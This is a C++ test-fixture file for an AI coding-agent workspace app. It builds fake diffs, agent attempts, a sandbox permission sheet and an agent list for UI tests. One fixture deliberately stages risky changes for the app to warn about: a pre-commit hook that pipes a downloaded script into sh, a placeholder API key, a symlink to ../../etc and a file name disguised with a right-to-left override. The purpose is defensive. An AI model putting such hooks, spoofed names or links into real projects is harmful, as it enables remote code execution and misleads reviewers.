#include "ui/change_script.h"

#include <QBuffer>
#include <QDateTime>
#include <QImage>
#include <QPainter>

namespace helix::ui::test {

using plane::Attempt;
using plane::SheetItem;
using projects::DiffLine;
using projects::FileChange;
using projects::FileStatus;
using projects::Warning;

namespace {

projects::Hunk hunkOf(const std::vector<std::string>& lines, int firstLine)
{
    projects::Hunk hunk;
    hunk.oldStart = hunk.newStart = firstLine;
    int oldLine = firstLine;
    int newLine = firstLine;
    for (const auto& line : lines) {
        DiffLine made;
        made.text = line.substr(1);
        made.kind = line[0] == '+'   ? DiffLine::Kind::Added
                    : line[0] == '-' ? DiffLine::Kind::Removed
                                     : DiffLine::Kind::Context;
        if (made.kind != DiffLine::Kind::Added)
            made.oldLine = oldLine++;
        if (made.kind != DiffLine::Kind::Removed)
            made.newLine = newLine++;
        hunk.lines.push_back(made);
    }
    hunk.oldCount = oldLine - firstLine;
    hunk.newCount = newLine - firstLine;
    return hunk;
}

void addCode(FakeLine& script, projects::ChangeSet& set)
{
    auto& diffs = script.plane.fakeProjects.diffs;
    auto cart = changedFile("shop/cart.py", FileStatus::Modified, 9, 4);
    auto diff = diffOf(
        cart,
        {" from decimal import Decimal, ROUND_HALF_UP", " ", " ",
         " class Cart:", "     \"\"\"What somebody is about to buy.\"\"\"", " ",
         "     def total(self) -> Decimal:", "-        # each line is rounded on its own",
         "-        return sum(round(line.total, 2) for line in self.lines)",
         "+        # round once, at the end: half-cents add up",
         "+        total = sum(line.total for line in self.lines)",
         "+        return quantize(total)", " ",
         "     def __len__(self):", "         return sum(line.count for line in self.lines)"},
        14);
    diff.hunks[0].heading = "class Cart:";
    diff.hunks.push_back(
        hunkOf({" ", "-def check_out(cart, user):", "+def check_out(cart, user, currency=\"EUR\"):",
                "     if not cart.lines:", "         raise EmptyCart(user)",
                "-    charge(user, cart.total())", "+    charge(user, cart.total(), currency)",
                "     return Receipt(cart, 1.0)", " ", "+",
                "+def quantize(amount: Decimal) -> Decimal:", "+    cents = Decimal(\"0.01\")",
                "+    return amount.quantize(cents, rounding=ROUND_HALF_UP)"},
               61));
    set.files.push_back(cart);
    diffs[cart.path] = diff;
    auto test = changedFile("tests/test_cart.py", FileStatus::Added, 6, 0);
    set.files.push_back(test);
    diffs[test.path] = diffOf(
        test, {"+from shop.cart import Cart", "+", "+",
               "+def test_total_rounds():", "+    cart = Cart([line(\"0.335\"), line(\"0.335\")])",
               "+    assert cart.total() == Decimal(\"0.67\")"});
}

void addWarned(FakeLine& script, projects::ChangeSet& set)
{
    auto& diffs = script.plane.fakeProjects.diffs;
    auto hook = changedFile(".husky/pre-commit", FileStatus::Modified, 2, 1);
    hook.newMode = 0100755;
    hook.warnings = {Warning::Hook, Warning::Executable};
    set.files.push_back(hook);
    diffs[hook.path] = diffOf(hook, {" #!/bin/sh", "-npm test", "+npm test -- --silent",
                                     "+curl -fsS https://example.org/setup.sh | sh"});
    auto ci = changedFile(".github/workflows/test.yml", FileStatus::Modified, 1, 1);
    ci.warnings = {Warning::CiFile};
    set.files.push_back(ci);
    diffs[ci.path] = diffOf(ci, {" jobs:", "   test:", "-    runs-on: ubuntu-22.04",
                                 "+    runs-on: ubuntu-24.04", "     steps:"});
    auto lock = changedFile("package-lock.json", FileStatus::Modified, 184, 92);
    lock.warnings = {Warning::LockFile};
    set.files.push_back(lock);
    diffs[lock.path] =
        diffOf(lock, {" {", "-  \"version\": \"4.18.1\",", "+  \"version\": \"4.21.0\",", " }"});
    auto secret = changedFile("config/local.env", FileStatus::Added, 2, 0);
    secret.warnings = {Warning::Secret};
    set.files.push_back(secret);
    diffs[secret.path] = diffOf(secret, {"+API_KEY=\"sk-1f9c\"", "+DEBUG=true"});
    auto link = changedFile("data", FileStatus::Added, 1, 0);
    link.newMode = 0120000;
    link.warnings = {Warning::Symlink};
    set.files.push_back(link);
    diffs[link.path] = diffOf(link, {"+../../etc"});
    auto odd = changedFile("docs/read\u202Eemd.exe", FileStatus::Added, 1, 0);
    odd.warnings = {Warning::OddName};
    set.files.push_back(odd);
    diffs[odd.path] = diffOf(odd, {"+looks \u202Edekcirt\u202C here"});
}

void addOthers(FakeLine& script, projects::ChangeSet& set)
{
    auto renamed = changedFile("shop/money.py", FileStatus::Renamed, 1, 1);
    renamed.oldPath = "shop/helpers/currency.py";
    set.files.push_back(renamed);
    script.plane.fakeProjects.diffs[renamed.path] =
        diffOf(renamed, {" CURRENCY = \"EUR\"", "-DIGITS = 3", "+DIGITS = 2"});
    auto gone = changedFile("shop/old_total.py", FileStatus::Deleted, 0, 3);
    set.files.push_back(gone);
    script.plane.fakeProjects.diffs[gone.path] = diffOf(
        gone, {"-def total(lines):", "-    # kept for the import below", "-    return sum(lines)"});
    auto logo = changedFile("static/logo.png", FileStatus::Modified, 0, 0);
    logo.binary = true;
    logo.oldBytes = 12 * 1024;
    logo.newBytes = 4 * 1024;
    set.files.push_back(logo);
    script.plane.fakeProjects.oldContent[logo.path] = pngOf(320, 200, "#2f6fe0");
    script.plane.fakeProjects.newContent[logo.path] = pngOf(400, 200, "#0c8f6c");
    auto blob = changedFile("models/rank.bin", FileStatus::Added, 0, 0);
    blob.binary = true;
    blob.newBytes = 7ULL << 20;
    blob.warnings = {Warning::Large};
    set.files.push_back(blob);
}

} // namespace

FileChange changedFile(const std::string& path, FileStatus status, int added, int removed)
{
    FileChange file;
    file.path = path;
    file.status = status;
    file.added = added;
    file.removed = removed;
    file.oldMode = status == FileStatus::Added ? 0 : 0100644;
    file.newMode = status == FileStatus::Deleted ? 0 : 0100644;
    return file;
}

projects::FileDiff diffOf(const FileChange& file, const std::vector<std::string>& lines,
                          int firstLine)
{
    projects::FileDiff diff;
    diff.file = file;
    diff.hunks.push_back(hunkOf(lines, firstLine));
    return diff;
}

QByteArray pngOf(int width, int height, const char* color)
{
    QImage image(width, height, QImage::Format_ARGB32);
    image.fill(Qt::transparent);
    QPainter painter(&image);
    painter.setRenderHint(QPainter::Antialiasing);
    painter.setPen(Qt::NoPen);
    painter.setBrush(QColor(QLatin1String(color)));
    painter.drawRoundedRect(image.rect().adjusted(20, 20, -20, -20), 24, 24);
    painter.end();
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

void fillChanges(FakeLine& script, const WorkspaceId& id)
{
    script.plane.fakeProjects.addProject(id, "/home/me/code/shop");
    auto& set = script.plane.fakeProjects.changeOf[id.str()];
    set.workspace = id;
    set.base = "4f2c91a0c3d5e6f708192a3b4c5d6e7f8091a2b3";
    set.head = "9b1d0c2e11223344556677889900aabbccddeeff";
    set.branch = "helix/shop/fix-the-cart";
    const auto now = QDateTime::currentMSecsSinceEpoch();
    set.takenMs = now - 60000;
    set.commits = {{"9b1d0c2e1122", "helix: uncommitted work", "Helix", now - 60000, true},
                   {"77aa10fe3344", "Round the total once", "Agent", now - 240000, false}};
    addCode(script, set);
    addWarned(script, set);
    addOthers(script, set);
    for (const auto& file : set.files) {
        set.added += file.added;
        set.removed += file.removed;
    }
}

plane::AttemptGroup fillAttempts(FakeLine& script)
{
    plane::AttemptGroup group;
    group.id = "group1";
    group.task = "test_total_rounds fails. Find out why, fix it, and check the page in the "
                 "browser.\nKeep the public functions as they are.";
    group.createdMs = QDateTime::currentMSecsSinceEpoch() - 9 * 60000;
    const auto add = [&](const char* name, const char* agent, Attempt::State state,
                         plane::State machine) {
        Attempt attempt;
        attempt.workspace = script.plane.fakeWorkspaces.addWorkspace(name, machine).id;
        attempt.name = name;
        attempt.agent = agent;
        attempt.state = state;
        group.attempts.push_back(attempt);
        return &group.attempts.back();
    };
    auto* first = add("cart-1", "helix", Attempt::State::Done, plane::State::Ready);
    *first = {first->workspace,
              first->name,
              first->agent,
              {},
              first->state,
              {},
              61000,
              14210,
              252000,
              3,
              21,
              7,
              0,
              "24 passed in 2.31s"};
    auto* second = add("cart-2", "claude", Attempt::State::Done, plane::State::Ready);
    *second = {second->workspace,
               second->name,
               second->agent,
               {},
               second->state,
               {},
               412000,
               88120,
               388000,
               9,
               164,
               41,
               1,
               "FAILED tests/test_cart.py::test_total_rounds\n1 failed"};
    auto* third = add("cart-3", "helix", Attempt::State::Working, plane::State::Ready);
    third->microUsd = 22000;
    third->workedMs = 130000;
    auto* fourth = add("cart-4", "codex", Attempt::State::Failed, plane::State::Failed);
    fourth->problem = "The agent ended by itself: its key was not accepted. Check the key of "
                      "OpenAI in Settings, Providers.";
    script.plane.fakeAttempts.groups.push_back(group);
    return group;
}

void fillSheet(FakeLine& script, const WorkspaceId& id)
{
    plane::BoundarySheet sheet;
    sheet.workspace = id;
    sheet.name = "checkout-fix";
    sheet.summary = "The agent can read a copy of one project, reach four sites, and ask one "
                    "model provider through Helix. It can write nothing on this computer.";
    const auto since = QDateTime::currentMSecsSinceEpoch() - 12 * 60000;
    sheet.items = {
        {SheetItem::Kind::Project, "", "Project shop",
         "A copy of main at 4f2c91a from ~/code/shop, without a way to push.", "", since},
        {SheetItem::Kind::Internet, "domain:github.com", "github.com",
         "It may connect to this site on port 443.",
         "Open connections to github.com are cut and new ones are refused.", since},
        {SheetItem::Kind::Internet, "list:packages", "Package sources",
         "Debian, npm, PyPI and crates.io.",
         "Packages can no longer be installed until you allow them again.", 0},
        {SheetItem::Kind::Models, "", "Anthropic",
         "Requests go through Helix, which puts the key in. The key stays on this computer.", "",
         0},
        {SheetItem::Kind::Budget, "", "$0.06 of $5.00", "Then requests to models are refused.", "",
         0},
        {SheetItem::Kind::Secret, "secret:NPM_TOKEN", "NPM_TOKEN",
         "Put into requests to registry.npmjs.org; the agent never sees its value.",
         "Requests to registry.npmjs.org go without it from now on.", since},
        {SheetItem::Kind::Port, "port:8000", "Port 8000",
         "You reach it at 127.0.0.1:8000. It leads into the machine, never out of it.",
         "127.0.0.1:8000 closes at once.", since},
        {SheetItem::Kind::Clipboard, "", "Clipboard", "Only what you paste yourself.", "", 0}};
    sheet.never = {"Your files, beyond the copy of the project.",
                   "Your network: this computer, your router, other machines near you.",
                   "Your keys and passwords, in any form it could read."};
    script.plane.fakeSheets.sheets[id.str()] = sheet;
}

void fillAgents(FakeLine& script)
{
    const auto add = [&](const char* name, const char* title, const char* needs) {
        agents::AgentState state;
        state.agent.name = name;
        state.agent.title = title;
        state.agent.needs = needs;
        state.installed = script.plane.fakeAgents.all.empty();
        script.plane.fakeAgents.all.push_back(state);
    };
    add("helix", "Helix Agent", "");
    add("claude", "Claude Code", "Needs an Anthropic key. It is installed over the internet.");
    add("codex", "Codex", "Needs an OpenAI key. It is installed over the internet.");
}

} // namespace helix::ui::test
